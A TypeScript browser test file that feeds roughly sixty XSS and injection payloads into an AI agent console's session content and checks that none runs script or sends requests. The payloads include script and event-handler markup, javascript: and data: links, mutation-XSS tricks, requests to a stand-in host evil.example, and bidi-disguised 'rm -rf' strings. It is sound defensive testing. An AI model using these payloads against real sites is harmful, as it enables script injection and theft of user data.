import assert from "node:assert/strict";
import test, { after } from "node:test";
import type { Message } from "gantry";
import { pageUntil, noBrowser, openWindow, sessionUrl, sharedBrowser, startConsole } from "../../helpers/console.js";
import { call } from "../../helpers/fake-model-server.js";
import { stream } from "../../helpers/lab.js";
import { seedSessions } from "../../helpers/seeded-sessions.js";
import { makeTempDir } from "../../helpers/temp.js";

const browser = sharedBrowser({ after });

/** Target of a payload's requests. No server exists there; an attempt is enough to fail the test. */
const EVIL = "http://evil.example";
/** The effect of a payload's script. */
const RUN = "document.title='owned'";

/** Known payloads that make a page run foreign code or send requests. */
const PAYLOADS: readonly string[] = [
  // Plain markup.
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<img srcset="${EVIL}/a.png 1x" src="data:image/png;base64,AAAA">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href="${EVIL}/a.svg#x"></use><image href="${EVIL}/b.png" /></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>Click</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf">`,
  `<link rel="stylesheet" href="${EVIL}/a.css"><link rel="prefetch" href="${EVIL}/p">`,
  `<style>@import "${EVIL}/s.css"; body { background: url(${EVIL}/bg.png) }</style>`,
  `<div style="background:url(${EVIL}/d.png)">styled</div>`,
  `<base href="${EVIL}/"><a href="x">based</a>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/meta">`,
  `<form action="${EVIL}/form"><input autofocus onfocus="${RUN}"><button>Go</button></form>`,
  `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" autoplay onloadstart="${RUN}"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<body onload="${RUN}"><marquee onstart="${RUN}">`,
  `<a id="app"></a><form id="timeline" name="body"><input name="children"></form>`,
  `<template><script>${RUN}</script></template><slot onslotchange="${RUN}">`,
  `<xss style="animation-name:x" onanimationstart="${RUN}"></xss>`,
  `<a href="${EVIL}/ping" ping="${EVIL}/pinged">pinged</a>`,
  `</textarea></title></style></script><img src=x onerror="${RUN}">`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt><IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<!--><img src=x onerror="${RUN}">--> <![CDATA[<img src=x onerror="${RUN}">]]>`,
  `[script](javascript:${RUN})`,
  `[script](JaVaScRiPt&#58;${RUN})`,
  `[script](java\tscript:${RUN}) [x](\u0001javascript:${RUN})`,
  `[data](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nb3duZWQnPC9zY3JpcHQ+)`,
  `[vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:x) [api](/api/sessions) [relative](//evil.example/x)`,
  `![picture](${EVIL}/markdown.png)`,
  `![picture](/api/sessions?from=markdown)`,
  `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImRvY3VtZW50LnRpdGxlPSdvd25lZCciLz4=)`,
  `![x](x"onerror="${RUN})`,
  `![x][ref]\n\n[ref]: ${EVIL}/reference.png "onload=${RUN}"`,
  `<javascript:${RUN}> <${EVIL}/auto>`,
  `[link](${EVIL}/"onmouseover="${RUN})`,
  `\`\`\`"><img/src=x/onerror=${RUN}>\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`html\n<img src="${EVIL}/code.png" onerror="${RUN}"><script>${RUN}</script>\n\`\`\``,
  `\`\`\`mermaid\nclick A "javascript:${RUN}"\n\`\`\``,
  `| <img src=x onerror=${RUN}> | b |\n| --- | --- |\n| [x](javascript:${RUN}) | <script>${RUN}</script> |`,
  `- [x] <img src=x onerror="${RUN}">\n  <svg onload="${RUN}">`,
  `[^1]: <script>${RUN}</script>\n\n$$<img src=x onerror=${RUN}>$$`,
  `${"> ".repeat(400)}<img src=x onerror="${RUN}">`,
  // Strings that only some fields interpret as more than text.
  `javascript:${RUN}`,
  `\u001b]8;;javascript:${RUN}\u0007link\u001b]8;;\u0007 \u001b[31m<img src=x onerror="${RUN}">\u001b[0m`,
  `"><img src=x onerror=${RUN}><a href="`,
  `' autofocus onfocus='${RUN}`,
  `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %>`,
  `\u202e<script>${RUN}</script>`,
  `ls \u202e; '~/ fr- mr' \u202c \u2066x\u2069 l\u200bs \u061c\u{e0041} &#x202e;back`,
  `#code=stolen&<img src=${EVIL}/hash>`,
];

test(
  "payloads in content of models, tools, files and names run no script and send no request",
  { skip: noBrowser },
  async (t) => {
    assert.ok(PAYLOADS.length >= 40, `${PAYLOADS.length} payloads`);
    const home = await makeTempDir();
    t.after(() => home.remove());
    // Each payload in each field with external content.
    const ids = await seedSessions(
      home.path,
      PAYLOADS.map((payload) => ({
        title: payload,
        provider: payload,
        model: payload,
        projectDir: `/${payload}`,
        messages: messagesWith(payload),
      })),
    );
    const console = await startConsole(t, { home: home.path });
    const { page, faults, requests } = await openWindow(t, await browser(), console.url, { height: 2400 });
    await page.evaluate("window.same = true");
    await page.locator(".side-session").first().waitFor();
    for (const [index, id] of ids.entries()) {
      const payload = PAYLOADS[index]!;
      await page.evaluate(`location.hash = ${JSON.stringify(`#/s/${id}`)}`);
      await page.locator(".answer").first().waitFor();
      // Unfold everything, so that all content is rendered.
      await pageUntil(page, () => page.evaluate<boolean>(UNFOLD));
      const findings = await page.evaluate<Record<string, unknown>>(FIND_ACTIVE_CONTENT);
      assert.deepEqual(findings, CLEAN, payload);
      assert.deepEqual(faults, [], payload);
    }
    const unexpectedRequests = requests.filter(
      (request) => !/^(GET|POST) \/(console|api)/.test(request) || /from=markdown/.test(request),
    );
    assert.deepEqual(unexpectedRequests, []);
  },
);

test("payloads in permission requests, questions and model names are shown as text", { skip: noBrowser }, async (t) => {
  const payload = `<img src=x onerror="${RUN}"><script>${RUN}</script> \u202e; '~/ fr- mr' \u202c l\u200bs`;
  const home = await makeTempDir();
  t.after(() => home.remove());
  const [id = ""] = await seedSessions(home.path, [{ mode: "ask", title: payload }]);
  const console = await startConsole(t, { home: home.path, models: { models: [payload, "m1"] } });
  console.models.enqueue(
    call("write", { filePath: `${payload.replaceAll("/", "")}.txt`, content: payload }),
    call("bash", { command: "echo safe \u202e; '~/ fr- mr' ohce; #\u202c done", description: payload }),
    call("ask_user", { question: payload, choices: [payload, "no"] }),
  );
  const { page, faults } = await openWindow(t, await browser(), sessionUrl(console, id));
  await page.evaluate("window.same = true");
  await page.locator("#prompt").fill(payload);
  await page.locator("#prompt").press("Enter");
  await page.locator(".call-waiting").waitFor();
  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
  await page.getByRole("button", { name: "Allow", exact: true }).click();
  const command = page.getByRole("group", { name: "Command" });
  await command.waitFor();
  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
  assert.equal(await command.textContent(), "echo safe \\u202e; '~/ fr- mr' ohce; #\\u202c done");
  await page.getByRole("button", { name: "Reject", exact: true }).click();
  await page.locator(".call-waiting", { hasText: "Ask" }).waitFor();
  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
  await page.getByRole("button", { name: "no", exact: true }).click();
  await page.locator(".answer", { hasText: "OK." }).waitFor();
  assert.deepEqual(await page.evaluate(FIND_ACTIVE_CONTENT), CLEAN);
  assert.deepEqual(faults, []);
});

test("payloads that stream in pieces leave no active content in the page", { skip: noBrowser }, async (t) => {
  const console = await startConsole(t);
  const text = PAYLOADS.slice(0, 51).join("\n\n");
  const pieces = text.match(/[^]{1,7}/gu) ?? [];
  console.models.enqueue({ say: [{ text: pieces }], pace: 1 });
  const { page, faults } = await openWindow(t, await browser(), console.url);
  await page.evaluate("window.same = true");
  const { sessionId, ended } = await stream(console.server, { message: "Say it" });
  await page.goto(sessionUrl(console, sessionId));
  await ended;
  await page.locator(".run-end", { hasText: "tokens" }).waitFor();
  const findings = await page.evaluate<Record<string, unknown>>(FIND_ACTIVE_CONTENT);
  assert.deepEqual({ ...findings, same: true }, CLEAN);
  assert.deepEqual(faults, []);
});

/** True if nothing is folded, and an output was shown. */
const UNFOLD = `(() => {
  const folded = [...document.querySelectorAll(".fold[aria-expanded=false]")];
  for (const fold of folded) fold.click();
  // Rows outside the view are not rendered.
  if (document.querySelector(".output") === null) document.getElementById("timeline").scrollTop = 0;
  return folded.length === 0 && document.querySelector(".output") !== null;
})()`;

/** Result of `FIND_ACTIVE_CONTENT` for a page without findings. */
const CLEAN = { same: true, owned: false, elements: [], attributes: [], links: [], pictures: [], hidden: [] };

/**
 * Finds content that must not be in the page. `hidden`: texts with reordering characters or, outside prose, invisible
 * ones.
 */
const FIND_ACTIVE_CONTENT = `(() => {
  const all = [...document.body.querySelectorAll("*")];
  const attributes = all.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ element, name, value })));
  const texts = attributes.filter(({ name }) => /^(title|alt|placeholder|aria-label)$/.test(name)).map(({ value }) => value);
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const { parentElement, data } = walker.currentNode;
    texts.push(parentElement.closest(".markdown") && !parentElement.closest("pre, code") ? data.replace(/[\u200b\u061c\u{e0041}]/gu, "") : data);
  }
  return {
    hidden: [...texts, document.title].filter((text) => /[\u202a-\u202e\u2066-\u2069\u200b\u061c\u{e0041}]/u.test(text)),
    same: window.same === true,
    owned: document.title === "owned",
    elements: all.map(({ localName }) => localName).filter((name) => /^(script|iframe|object|embed|link|meta|base|style|video|audio|template|marquee|xss|use|image|animate|math)$/.test(name)),
    attributes: attributes.filter(({ name }) => /^(on|ping$|srcset$|srcdoc$|action$|formaction$|xlink)/.test(name)).map(({ name }) => name),
    links: attributes.filter(({ element, name, value }) => name === "href" && !(/^(https?:|mailto:)/.test(value) && element.rel === "noopener noreferrer" && element.target === "_blank") && !/^#/.test(value)).map(({ value }) => value),
    pictures: attributes.filter(({ name, value }) => name === "src" && !/^data:image\\/(png|jpeg|gif|webp);base64,/.test(value)).map(({ value }) => value),
  };
})()`;

function messagesWith(payload: string): Partial<Message>[] {
  const input = { filePath: payload, path: payload, command: payload, url: payload, [payload]: payload };
  const tools = ["bash", "edit", "webfetch", payload];
  const calls = tools.map((name, index) => ({
    type: "tool_call" as const,
    id: `call-${index}-${payload}`,
    name,
    arguments: index === 3 ? payload : JSON.stringify(input),
  }));
  const results = calls.map(({ id, name }, index): Partial<Message> => ({
    role: "tool",
    toolCallId: id,
    name,
    failed: index === 2,
    parts: [
      { type: "text", text: payload },
      { type: "image", mediaType: "image/svg+xml", data: Buffer.from(payload).toString("base64") },
      { type: "image", mediaType: payload, data: payload },
      { type: "file", mediaType: payload, filename: payload, data: payload },
    ],
    ...(index === 1 && {
      shown: {
        diff: [{ path: payload, oldText: `a\n${payload}\n`, newText: `${payload}\nb\n` }],
        locations: [{ path: payload }],
      },
    }),
  }));
  return [
    {
      parts: [
        { type: "text", text: payload },
        { type: "file", mediaType: payload, filename: payload, data: payload },
      ],
    },
    { role: "system", parts: [{ type: "text", text: payload }] },
    { role: "assistant", parts: [{ type: "reasoning", text: payload }, { type: "text", text: payload }, ...calls] },
    ...results,
    {
      role: "assistant",
      parts: [{ type: "text", text: `# ${payload}\n\n${payload}\n\n1. ${payload}\n\n> ${payload}` }],
    },
  ];
}
